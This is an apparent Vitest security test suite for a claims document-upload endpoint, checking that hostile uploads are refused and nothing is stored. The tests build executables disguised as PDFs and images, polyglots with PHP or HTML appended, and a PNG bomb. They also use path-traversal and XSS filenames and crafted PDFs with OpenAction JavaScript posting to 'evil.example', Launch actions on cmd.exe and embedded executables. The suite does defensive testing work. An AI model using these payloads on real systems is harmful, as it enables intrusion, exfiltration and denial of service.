// Hostile documents (ASVS 5.2.1–5.2.2, 5.3.2): executables under document names, polyglots (a real
// header with something else appended), files cut short, a PNG bomb, path tricks in names and a
// zero-byte file. Each is refused with a clear 4xx problem, and nothing is stored: no row, no blob.
import { existsSync, readdirSync } from 'node:fs';
import { join } from 'node:path';
import { deflateSync, crc32 } from 'node:zlib';
import { eq } from 'drizzle-orm';
import { PDFDocument, PDFName, PDFString, StandardFonts } from '@cantoo/pdf-lib';
import { describe, expect, it } from 'vitest';
import { claimDocuments } from '../../src/server/db/schema/claims.ts';
import { createClaim, EXE, HTML, makeJpeg, makePdf, makePng, newCaller, PHP, uploadRequest, type Caller } from './claims-helpers.ts';
import { useTestApp } from './use-test-app.ts';

let ada: Caller;
const t = useTestApp(async () => {
  ada = await newCaller(t.app);
});

const ELF = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0x02, 0x01, 0x01, 0x00]), Buffer.alloc(120, 0)]);
const ZIP = Buffer.concat([Buffer.from('PK\x03\x04', 'latin1'), Buffer.alloc(60, 1), Buffer.from('PK\x05\x06', 'latin1'), Buffer.alloc(18, 0)]);

function chunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(Buffer.concat([Buffer.from(type, 'latin1'), data])));
  return Buffer.concat([length, Buffer.from(type, 'latin1'), data, crc]);
}

/** A PNG whose header claims 60000×60000 pixels over a few bytes of data: a bomb for its viewer. */
function pngBomb(): Buffer {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(60_000, 0);
  ihdr.writeUInt32BE(60_000, 4);
  ihdr[8] = 8;
  ihdr[9] = 6;
  return Buffer.concat([makePng(1, 1).subarray(0, 8), chunk('IHDR', ihdr), chunk('IDAT', deflateSync(Buffer.alloc(4096))), chunk('IEND', Buffer.alloc(0))]);
}

const refused: [string, Buffer, string, string][] = [
  ['a Windows executable renamed .pdf', EXE, 'invoice.pdf', 'application/pdf'],
  ['a Linux executable renamed .jpg', ELF, 'photo.jpg', 'image/jpeg'],
  ['a ZIP renamed .pdf', ZIP, 'ticket.pdf', 'application/pdf'],
  ['a JPEG with a ZIP appended (polyglot)', Buffer.concat([makeJpeg(), ZIP]), 'photo.jpg', 'image/jpeg'],
  ['a JPEG with a script page appended (polyglot)', Buffer.concat([makeJpeg(), HTML]), 'photo.jpg', 'image/jpeg'],
  ['a PNG with PHP after its end (polyglot)', Buffer.concat([makePng(20, 10), PHP]), 'sig.png', 'image/png'],
  ['a PDF with HTML after %%EOF (polyglot)', Buffer.concat([makePdf(), HTML]), 'boarding.pdf', 'application/pdf'],
  ['a PDF header on an HTML page', Buffer.concat([Buffer.from('%PDF-1.4\n'), HTML]), 'boarding.pdf', 'application/pdf'],
  ['a JPEG cut short', makeJpeg().subarray(0, 1000), 'photo.jpg', 'image/jpeg'],
  [
    'a PNG with a damaged chunk',
    (() => {
      const p = Buffer.from(makePng(30, 10));
      p[40] = p[40]! ^ 0xff;
      return p;
    })(),
    'scan.png',
    'image/png',
  ],
  ['a PNG bomb (60000×60000 declared)', pngBomb(), 'scan.png', 'image/png'],
];

describe('hostile documents', () => {
  it.each(refused)('refuses %s with 415 and stores nothing', async (_label, data, filename, contentType) => {
    const claim = await createClaim(t.app, ada);
    const res = await t.app.inject(uploadRequest(claim.id, ada, { data, filename, contentType }));
    expect(res.statusCode).toBe(415);
    expect(res.headers['content-type']).toMatch(/^application\/problem\+json/);
    expect(res.json()).toMatchObject({ code: 'unsupported-file-type', detail: expect.any(String) });
    expect(await t.app.db.select().from(claimDocuments).where(eq(claimDocuments.claimId, claim.id))).toEqual([]);
    const dir = join(t.config.dataDir, 'blobs', 'claims', claim.id);
    expect(existsSync(dir) ? readdirSync(dir) : []).toEqual([]);
  });

  it('accepts the same kinds of file when they are whole and clean (the checks are not blanket refusals)', async () => {
    const claim = await createClaim(t.app, ada);
    for (const [data, filename] of [
      [makeJpeg(), 'a.jpg'],
      [makePng(20, 10), 'b.png'],
      [makePdf(), 'c.pdf'],
      [Buffer.concat([makePdf(), Buffer.from('\r\n\0\0 ')]), 'padded.pdf'],
    ] as const) {
      expect((await t.app.inject(uploadRequest(claim.id, ada, { data, filename }))).statusCode, filename).toBe(201);
    }
  });

  it.each([
    ['../../../etc/passwd.pdf', 'passwd.pdf'],
    ['..\\..\\windows\\system32\\boot.pdf', 'boot.pdf'],
    ['C:\\Users\\ada\\scan.pdf', 'scan.pdf'],
    ['/absolute/path/ticket.pdf', 'ticket.pdf'],
    ['....//....//x.pdf', 'x.pdf'],
    ['evil.php.pdf', 'evil.php.pdf'],
    ['.htaccess', 'htaccess.pdf'],
    ['a%00.pdf.exe', 'a%00.pdf.pdf'],
    ['<img src=x onerror=alert(1)>.pdf', 'img src=x onerror=alert(1).pdf'],
  ])('stores %j under a server key and names it %j (no path, the real extension)', async (filename, shown) => {
    const claim = await createClaim(t.app, ada);
    const res = await t.app.inject(uploadRequest(claim.id, ada, { data: makePdf(), filename }));
    expect(res.statusCode).toBe(201);
    expect(res.json().data.name).toBe(shown);
    const [row] = await t.app.db.select().from(claimDocuments).where(eq(claimDocuments.claimId, claim.id));
    expect(row!.blobKey).toMatch(new RegExp(`^claims/${claim.id}/[0-9a-f-]{36}$`));
  });
});

/** A hand-written PDF whose catalog carries `catalogExtra` and that has `objects` beside it. */
function craftedPdf(catalogExtra: string, objects: string[] = []): Buffer {
  const body = [
    `1 0 obj << /Type /Catalog /Pages 2 0 R ${catalogExtra} >> endobj`,
    '2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj',
    '3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >> endobj',
    ...objects,
  ];
  return Buffer.from(`%PDF-1.7\n${body.join('\n')}\ntrailer << /Root 1 0 R /Size ${body.length + 1} >>\n%%EOF\n`, 'latin1');
}

/** A real PDF from a generator (pdf-lib: xref stream, compressed object streams), optionally with JavaScript on open. */
async function generatedPdf(withScript = false): Promise<Buffer> {
  const doc = await PDFDocument.create();
  const page = doc.addPage([300, 200]);
  page.drawText('Boarding pass BA456 LHR-JFK', { x: 20, y: 100, size: 12, font: await doc.embedFont(StandardFonts.Helvetica) });
  if (withScript) {
    const action = doc.context.obj({ S: PDFName.of('JavaScript'), JS: PDFString.of('app.alert("hi")') });
    doc.catalog.set(PDFName.of('OpenAction'), doc.context.register(action));
  }
  return Buffer.from(await doc.save({ useObjectStreams: true }));
}

const unsafePdfs: [string, () => Buffer | Promise<Buffer>][] = [
  [
    'JavaScript run on open (/OpenAction /S /JavaScript)',
    () => craftedPdf('/OpenAction << /S /JavaScript /JS (app.alert(1); this.submitForm("https://evil.example/x")) >>'),
  ],
  ['JavaScript with an escaped name (/Java#53cript)', () => craftedPdf('/OpenAction << /S /Java#53cript /JS (app.alert(1)) >>')],
  [
    'a document-level JavaScript name tree',
    () => craftedPdf('/Names << /JavaScript 4 0 R >>', ['4 0 obj << /Names [(x) << /S /JavaScript /JS (app.alert(1)) >>] >> endobj']),
  ],
  [
    'an additional action on the page (/AA)',
    () => craftedPdf('', ['4 0 obj << /Type /Annot /Subtype /Link /Rect [0 0 10 10] /AA << /E << /S /URI /URI (https://evil.example) >> >> >> endobj']),
  ],
  ['a Launch action', () => craftedPdf('/OpenAction 4 0 R', ['4 0 obj << /S /Launch /F (cmd.exe) >> endobj'])],
  [
    'an OpenAction that opens a link (an action by reference)',
    () => craftedPdf('/OpenAction 4 0 R', ['4 0 obj << /S /URI /URI (https://evil.example) >> endobj']),
  ],
  [
    'an embedded file',
    () =>
      craftedPdf('/Names << /EmbeddedFiles << /Names [(a.exe) 4 0 R] >> >>', [
        '4 0 obj << /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >> endobj',
        '5 0 obj << /Type /EmbeddedFile /Length 2 >> stream\nMZ\nendstream endobj',
      ]),
  ],
  ['JavaScript inside a compressed object stream (generated)', () => generatedPdf(true)],
];

const brokenPdfs: [string, Buffer][] = [
  ['a ZIP between a PDF header and %%EOF (polyglot)', Buffer.concat([Buffer.from('%PDF-1.4\n'), ZIP, Buffer.from('\n%%EOF\n')])],
  ['a valid PDF that also holds a ZIP directory (polyglot)', craftedPdf('', [`% ${ZIP.toString('latin1')}`])],
  ['a ten-byte "%PDF-%%EOF"', Buffer.from('%PDF-%%EOF')],
];

describe('PDF content (F11)', () => {
  it.each(unsafePdfs)('refuses a PDF with %s as 422 document-unsafe, storing nothing', async (_label, make) => {
    const claim = await createClaim(t.app, ada);
    const res = await t.app.inject(uploadRequest(claim.id, ada, { data: await make(), filename: 'pass.pdf' }));
    expect(res.statusCode, res.body).toBe(422);
    expect(res.json()).toMatchObject({ code: 'document-unsafe', detail: expect.any(String) });
    expect(await t.app.db.select().from(claimDocuments).where(eq(claimDocuments.claimId, claim.id))).toEqual([]);
  });

  it.each(brokenPdfs)('refuses %s as 415', async (_label, data) => {
    const claim = await createClaim(t.app, ada);
    const res = await t.app.inject(uploadRequest(claim.id, ada, { data, filename: 'pass.pdf' }));
    expect(res.statusCode, res.body).toBe(415);
    expect(res.json().code).toBe('unsupported-file-type');
  });

  it("accepts real PDFs: a generator's (compressed objects), one with links and a plain destination on open", async () => {
    const claim = await createClaim(t.app, ada);
    const files = [
      await generatedPdf(),
      craftedPdf('/OpenAction [3 0 R /Fit]', [
        '4 0 obj << /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /URI /URI (https://airline.example/booking) >> >> endobj',
      ]),
    ];
    for (const data of files) {
      const res = await t.app.inject(uploadRequest(claim.id, ada, { data, filename: 'pass.pdf' }));
      expect(res.statusCode, res.body).toBe(201);
    }
  });
});

/** A JPEG whose frame header (SOF0) declares width×height; the scan data is filler. */
function jpegDeclaring(width: number, height: number): Buffer {
  const sof = Buffer.from([0xff, 0xc0, 0x00, 0x11, 0x08, height >> 8, height & 0xff, width >> 8, width & 0xff, 0x03, 1, 0x22, 0, 2, 0x11, 1, 3, 0x11, 1]);
  const jpeg = makeJpeg();
  return Buffer.concat([jpeg.subarray(0, 20), sof, jpeg.subarray(20)]);
}

describe('pixel budget (I6)', () => {
  it.each([
    [
      'a PNG declaring 10000×8000 pixels',
      Buffer.concat([
        makePng(1, 1).subarray(0, 8),
        chunk(
          'IHDR',
          (() => {
            const h = Buffer.alloc(13);
            h.writeUInt32BE(10_000, 0);
            h.writeUInt32BE(8_000, 4);
            h[8] = 8;
            h[9] = 6;
            return h;
          })(),
        ),
        chunk('IDAT', deflateSync(Buffer.alloc(64))),
        chunk('IEND', Buffer.alloc(0)),
      ]),
      'image/png',
    ],
    ['a JPEG declaring 12000×9000 pixels', jpegDeclaring(12_000, 9_000), 'image/jpeg'],
  ])('refuses %s with 422 image-too-large', async (_label, data, contentType) => {
    const claim = await createClaim(t.app, ada);
    const res = await t.app.inject(uploadRequest(claim.id, ada, { data, filename: 'scan', contentType }));
    expect(res.statusCode, res.body).toBe(422);
    expect(res.json().code).toBe('image-too-large');
  });

  it("accepts a JPEG of a phone photo's size (4000×3000)", async () => {
    const claim = await createClaim(t.app, ada);
    const res = await t.app.inject(uploadRequest(claim.id, ada, { data: jpegDeclaring(4000, 3000), filename: 'photo.jpg', contentType: 'image/jpeg' }));
    expect(res.statusCode, res.body).toBe(201);
  });
});
